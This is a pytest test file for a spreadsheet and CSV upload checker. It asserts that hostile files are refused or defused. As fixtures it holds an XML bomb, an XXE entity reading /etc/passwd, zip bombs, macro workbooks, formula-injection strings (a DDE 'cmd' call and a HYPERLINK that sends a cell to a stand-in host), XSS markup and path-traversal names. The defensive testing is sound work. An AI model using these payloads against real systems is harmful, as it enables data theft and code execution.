"""Files that mean harm, or are not what they seem: each is refused with a reason or made harmless."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
from intake_kit import COLUMNS, ROW, WORDS, codes, csv, info, plain, read

from analysis.intake import guard, page
from analysis.intake.annotate import annotate
from analysis.intake.desk import safe
from analysis.intake.terminal import table

ROOT = Path(__file__).resolve().parents[2]
BOMB = """<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str">
<v>&b;</v></c></row></sheetData></worksheet>"""


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(path: Path, content: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for name, raw in content.items():
            made.writestr(name, raw)
    return path


@pytest.fixture
def good(tmp_path) -> Path:
    return plain(tmp_path / "good.xlsx", [ROW])


def refused(path: Path, code: str) -> None:
    intake = read(path)
    assert codes(intake.findings)[0] == code, intake.findings
    assert not intake.tables
    (first, *_) = intake.findings
    assert all((first.expected_vi, first.expected_en, first.mend_vi, first.mend_en))


def test_an_xml_bomb(good, tmp_path):
    refused(packed(tmp_path / "a.xlsx", members(good) | {"xl/worksheets/sheet1.xml": BOMB.encode()}), "xml_bomb")
    outside = BOMB.replace('"aaaaaaaaaa"', 'SYSTEM "file:///etc/passwd"').encode("utf-16")
    refused(packed(tmp_path / "b.xlsx", members(good) | {"xl/sharedStrings.xml": outside}), "xml_bomb")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(good, tmp_path):
    path = packed(tmp_path / "a.xlsx", members(good) | {"xl/media/image1.xml": b"\0" * (guard.UNPACKED + 1)})
    assert path.stat().st_size < 2**20
    refused(path, "zip_bomb")
    many = {f"xl/media/{number}.bin": b"" for number in range(guard.MEMBERS + 1)}
    refused(packed(tmp_path / "b.xlsx", members(good) | many), "zip_bomb")


def test_a_zip_that_lies_about_its_sizes(good, tmp_path):
    raw = packed(tmp_path / "a.xlsx", members(good) | {"xl/worksheets/sheet1.xml": b" " * 5_000_000}).read_bytes()
    size = (5_000_000).to_bytes(4, "little")
    assert raw.count(size) >= 2
    (tmp_path / "a.xlsx").write_bytes(raw.replace(size, (1000).to_bytes(4, "little")))
    refused(tmp_path / "a.xlsx", "damaged")


def sheet(rows: str, after: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{space}"><sheetData>{rows}</sheetData>{after}</worksheet>'.encode()


def test_a_sheet_of_a_million_rows(good, tmp_path):
    rows = "".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(1, 1_000_001))
    refused(packed(tmp_path / "a.xlsx", members(good) | {"xl/worksheets/sheet1.xml": sheet(rows)}), "sheet_too_large")
    last = sheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')
    refused(packed(tmp_path / "b.xlsx", members(good) | {"xl/worksheets/sheet1.xml": last}), "sheet_too_large")


def test_merged_areas_and_columns_without_end(good, tmp_path):
    merged = sheet("<row r='1'/>", '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    refused(packed(tmp_path / "a.xlsx", members(good) | {"xl/worksheets/sheet1.xml": merged}), "sheet_too_large")
    wide = sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>')
    refused(packed(tmp_path / "b.xlsx", members(good) | {"xl/worksheets/sheet1.xml": wide}), "sheet_too_large")


def test_a_csv_of_a_million_lines(tmp_path):
    refused(
        csv(tmp_path / "a.csv", ",".join(COLUMNS) + "\n" + "G05,all,so-nv,2022-11-30,1,2\n" * 300_000),
        "sheet_too_large",
    )


def test_macros_under_any_name(good, tmp_path):
    refused(packed(tmp_path / "a.xlsx", members(good) | {"xl/vbaProject.bin": b"\xd0\xcf"}), "macros")
    types = members(good)["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    refused(packed(tmp_path / "b.xlsm", members(good) | {"[Content_Types].xml": types}), "macros")


def test_encrypted_and_old_workbooks_and_what_is_no_table(tmp_path):
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    cases = {
        "a.xlsx": (ole + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
        "b.xls": (ole, "old_format"),
        "c.xlsx": (b"%PDF-1.7\n", "not_a_table"),
        "d.xls": (b"<html><table><tr><td>1</td></tr></table></html>", "not_a_table"),
        "e.csv": (b"MZ\x90\0", "not_a_table"),
        "f.csv": (b"target,part\0\1\2\xff", "not_a_table"),
        "g.xlsx": (b"", "empty_file"),
        "h.xlsx": (b"PK\x03\x04 not a zip", "damaged"),
        "i.csv": (b"a" * (guard.BYTES + 1), "file_too_large"),
    }
    for name, (raw, code) in cases.items():
        (tmp_path / name).write_bytes(raw)
        refused(tmp_path / name, code)
    ods = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
    refused(packed(tmp_path / "j.ods", ods), "old_format")
    refused(packed(tmp_path / "k.docx", {"word/document.xml": b"<a/>", "[Content_Types].xml": b"<a/>"}), "not_a_table")
    assert ".ods" in read(tmp_path / "j.ods").findings[0].value


def test_a_wrong_ending_is_read_by_content_and_said(good, tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(good.read_bytes())
    intake = read(path)
    assert intake.count == 1
    assert codes(intake.findings, "warning") == ["wrong_extension"]
    text = csv(tmp_path / "b.xlsx", ",".join(COLUMNS) + "\nG05,all,so-nv,2022-11-30,1,2\n")
    assert codes(read(text).findings, "warning") == ["wrong_extension"]


def test_external_links_are_not_followed(good, tmp_path):
    links = {
        "xl/externalLinks/externalLink1.xml": b"<externalLink xmlns='x'/>",
        "xl/connections.xml": b"<connections/>",
    }
    intake = read(packed(tmp_path / "a.xlsx", members(good) | links))
    assert codes(intake.findings, "warning") == ["external_links"]
    assert intake.count == 1


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://x.test?"&A1)', "=cmd|' /C calc'!A0", "\t=1+1"]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("note", FORMULAS)
def test_a_formula_in_a_note_stays_text_to_the_marked_copy(tmp_path, note, kind):
    path = tmp_path / f"a.{kind}"
    if kind == "csv":
        quoted = note.replace('"', '""')
        csv(path, ",".join((*COLUMNS, "note_vi")) + f'\nG05,all,so-nv,2022-11-30,99,75,"{quoted}"\n')
    else:
        plain(path, [(*ROW, None)], (*COLUMNS, "note_vi"))
        book = openpyxl.load_workbook(path)
        book.active["G2"].value, book.active["G2"].data_type = note, "s"
        book.save(path)
    intake = read(path)
    assert intake.tables["targets"].loc[0, "note_vi"] == note.strip()
    copy = openpyxl.load_workbook(annotate(path, intake.findings, WORDS, tmp_path / "copy.xlsx"))
    for each in copy.worksheets:
        for row in each.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    assert note.strip() in str(copy.worksheets[1]["G2"].value)


def test_formulas_of_the_original_are_text_in_the_marked_copy_and_links_are_gone(tmp_path):
    path = plain(tmp_path / "a.xlsx", [(*ROW[:4], '=WEBSERVICE("http://x.test")', 75)])
    book = openpyxl.load_workbook(path)
    book.active["A2"].hyperlink = "http://x.test"
    book.save(path)
    before = path.read_bytes()
    copy = annotate(path, read(path).findings, WORDS, tmp_path / "copy.xlsx")
    cell = openpyxl.load_workbook(copy).worksheets[1]["E2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert "LỖI" in cell.comment.text
    assert not any(b"<f>" in raw or b'x.test" TargetMode' in raw for raw in members(copy).values())
    assert path.read_bytes() == before


def test_html_and_control_characters_are_text_on_the_page_and_in_the_terminal(tmp_path):
    bad = "<script>alert(1)</script>\x1b[2J\u202e"
    path = csv(tmp_path / "a.csv", ",".join(COLUMNS) + f"\nG05,all,so-nv,2022-11-30,{bad},75\n")
    findings = read(path).findings
    html = page.page(findings, info().id, WORDS, ROOT / "report")
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "default-src 'none'" in html
    shown = table(findings, WORDS["vi"])
    assert "\x1b" not in shown
    assert "\u202e" not in shown


def test_names_are_text_and_never_paths(tmp_path):
    for name in ("../../etc/passwd", "a\\..\\b", "<b>.xlsx", "\u202excod.xlsx", "CON", ".", "báo cáo (1)"):
        assert "/" not in safe(name)
        assert not safe(name).startswith(".")
    path = plain(tmp_path / "<img src=x onerror=alert(1)>.xlsx", [(*ROW[:4], "?", 75)], title="A & <b>")
    html = page.page(read(path).findings, info().id, WORDS, ROOT / "report")
    assert "<img" not in html
    assert "A &amp; &lt;b&gt;!E2" in html


def test_a_member_that_climbs_out_of_the_zip_is_never_written(good, tmp_path):
    (tmp_path / "in").mkdir()
    path = packed(tmp_path / "in" / "a.xlsx", members(good) | {"../../evil.xml": b"<a/>"})
    assert read(path).count == 1
    assert not list(tmp_path.rglob("evil*"))


def test_a_damaged_workbook_says_so(good, tmp_path):
    refused(packed(tmp_path / "a.xlsx", members(good) | {"xl/workbook.xml": b"<workbook"}), "damaged")
    without = {name: raw for name, raw in members(good).items() if name != "xl/worksheets/sheet1.xml"}
    refused(packed(tmp_path / "b.xlsx", without), "damaged")
    refused(packed(tmp_path / "d.xlsx", members(good) | {"xl/workbook.xml": b"<workbook/>"}), "no_rows")
    (tmp_path / "c.xlsx").write_bytes(good.read_bytes()[:-200])
    refused(tmp_path / "c.xlsx", "damaged")
